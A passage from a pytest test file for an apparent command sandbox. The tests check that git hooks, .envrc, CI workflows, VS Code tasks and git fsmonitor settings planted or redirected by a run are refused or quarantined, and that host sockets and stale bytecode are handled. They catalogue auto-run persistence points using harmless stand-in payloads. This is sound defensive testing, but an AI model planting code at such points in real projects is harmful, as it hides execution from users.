    ran = run(box, "python3 -m venv .venv2", *WRITE_WORKSPACE, environ=environ)
    assert ran.status == 0, ran.err
    assert quarantined(box) == []
    (packages,) = (box.work / ".venv2" / "lib").glob("python3*/site-packages")
    assert (packages / "pip").is_dir()
    done = subprocess.run(
        [str(box.work / ".venv2" / "bin" / "python"), "-c", "import pip"],
        env=environ,
        capture_output=True,
        timeout=_BOUND,
        check=False,
    )
    assert done.returncode == 0, done.stderr


def test_where_a_linked_hook_or_envrc_leads_cannot_be_changed_from_inside(box: Box) -> None:
    for path in ("tools/pre-commit", "tools/lint", "config/envrc"):
        (box.work / path).parent.mkdir(parents=True, exist_ok=True)
        (box.work / path).write_text("before\n")
    (box.work / ".git" / "hooks" / "pre-commit").symlink_to("../../tools/pre-commit")
    (box.work / ".envrc").symlink_to("config/envrc")
    ran = run(
        box, appender(box, ("tools/pre-commit", "config/envrc", "tools/lint")), *WRITE_WORKSPACE
    )
    assert ran.status == 0, ran.err
    for path in ("tools/pre-commit", "config/envrc"):
        assert f"refused {path} 30" in ran.out, ran.out  # EROFS
        assert (box.work / path).read_text() == "before\n"
    # The harmless twin: a file of the same directory no hook links to.
    assert "wrote tools/lint" in ran.out, ran.out


def test_a_linked_hook_deep_in_the_workspace_is_found_by_the_walk(box: Box) -> None:
    (box.work / "config").mkdir()
    (box.work / "config" / "tasks.json").write_text("before\n")
    (box.work / "docs" / ".vscode").mkdir(parents=True)
    (box.work / "docs" / ".vscode" / "tasks.json").symlink_to("../../config/tasks.json")
    ran = run(box, appender(box, ("config/tasks.json",)), *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "refused config/tasks.json 30" in ran.out, ran.out


# ───────────────────────── what a run made in new directories ─────────────────────────

_PLANTED_IN_NEW_DIRECTORIES = (
    ".github/workflows/ci.yml",  # CI runs it at the next push, with the repository's secrets
    "newdir/.envrc",  # direnv runs it at `cd newdir`
    ".git/info/attributes",  # in a new `info/`
    "sub/.git/hooks/pre-commit",  # a nested repository's hook
    "docs/.vscode/tasks.json",  # the editor runs it when the folder opens
)


def test_persistence_points_in_directories_the_run_made_are_moved_aside(box: Box) -> None:
    shutil.rmtree(box.work / ".git" / "info", ignore_errors=True)
    command = script(
        box,
        "plant.py",
        "import os\n"
        f"for name in {_PLANTED_IN_NEW_DIRECTORIES!r}:\n"
        "    os.makedirs(os.path.dirname(name), exist_ok=True)\n"
        "    open(name, 'w').write('evil')\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    for name in _PLANTED_IN_NEW_DIRECTORIES:
        assert not (box.work / name).exists(), name
    assert len(quarantined(box)) == len(_PLANTED_IN_NEW_DIRECTORIES)


def test_a_hook_in_a_repository_the_run_made_is_moved_aside_but_its_config_stays(
    box: Box,
) -> None:
    # git init's own files stay (a build script's `git init sub`); a hook beside them does not.
    command = script(
        box,
        "init.py",
        "import subprocess\n"
        "subprocess.run(['git', 'init', '-q', 'sub'], check=True)\n"
        "open('sub/.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ntouch /tmp/x\\n')\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert (box.work / "sub" / ".git" / "config").is_file()
    assert list((box.work / "sub" / ".git" / "hooks").glob("*.sample"))
    assert not (box.work / "sub" / ".git" / "hooks" / "pre-commit").exists()
    (moved,) = quarantined(box)
    assert str(moved).endswith("sub/.git/hooks/pre-commit")


def test_a_new_repositorys_config_that_names_a_program_is_moved_aside(box: Box) -> None:
    command = script(
        box,
        "init.py",
        "import subprocess\n"
        "subprocess.run(['git', 'init', '-q', 'sub'], check=True)\n"
        "open('sub/.git/config', 'a').write('[core]\\n\\tfsmonitor = touch /tmp/x\\n')\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert not (box.work / "sub" / ".git" / "config").exists()
    assert [str(p).endswith("sub/.git/config") for p in quarantined(box)] == [True]


def test_harmless_twin_git_init_in_a_new_directory_stays(box: Box) -> None:
    command = script(
        box,
        "init.py",
        "import subprocess\nsubprocess.run(['git', 'init', '-q', 'sub'], check=True)\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert (box.work / "sub" / ".git" / "config").is_file()
    assert quarantined(box) == []


# ───────────────────────── sockets, bytecode ─────────────────────────


def test_a_socket_in_the_workspace_does_not_lead_to_its_host_process(box: Box) -> None:
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(box.work / "dev.sock"))
    server.listen(4)
    server.settimeout(0.2)
    try:
        command = script(
            box,
            "call.py",
            "import socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            "try:\n"
            "    s.connect('dev.sock')\n"
            "    print('connected')\n"
            "except OSError as error:\n"
            "    print('refused', type(error).__name__)\n",
        )
        ran = run(box, command, *WRITE_WORKSPACE)
        assert ran.status == 0, ran.err
        assert "refused" in ran.out, ran.out
        with pytest.raises(TimeoutError):
            server.accept()  # nobody knocked
    finally:
        server.close()


def test_harmless_twin_a_run_makes_and_uses_its_own_socket(box: Box) -> None:
    command = script(
        box,
        "own.py",
        "import socket\n"
        "server = socket.socket(socket.AF_UNIX)\n"
        "server.bind('own.sock')\n"
        "server.listen(1)\n"
        "client = socket.socket(socket.AF_UNIX)\n"
        "client.connect('own.sock')\n"
        "client.sendall(b'hi')\n"
        "print('heard', server.accept()[0].recv(2).decode())\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "heard hi" in ran.out


def test_bytecode_a_run_left_is_deleted(box: Box) -> None:
    (box.work / "src").mkdir()
    (box.work / "src" / "mod.py").write_text("print('clean')\n")
    command = script(
        box,
        "stale.py",
        "import os\n"
        "os.makedirs('src/__pycache__', exist_ok=True)\n"
        "open('src/__pycache__/mod.cpython-311.pyc', 'wb').write(b'evil')\n"
        "open('src/legacy.pyc', 'wb').write(b'evil')\n"
        "open('src/made.txt', 'w').write('x')\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert not (box.work / "src" / "__pycache__" / "mod.cpython-311.pyc").exists()
    assert not (box.work / "src" / "legacy.pyc").exists()
    # The harmless twin: the run's other files, and the source, stay.
    assert (box.work / "src" / "made.txt").read_text() == "x"
    assert (box.work / "src" / "mod.py").read_text() == "print('clean')\n"
    (outcome,) = [e for e in read_audit_log(box.audit) if isinstance(e, CallOutcome)]
    assert "Deleted 2 compiled" in (outcome.detail or "")
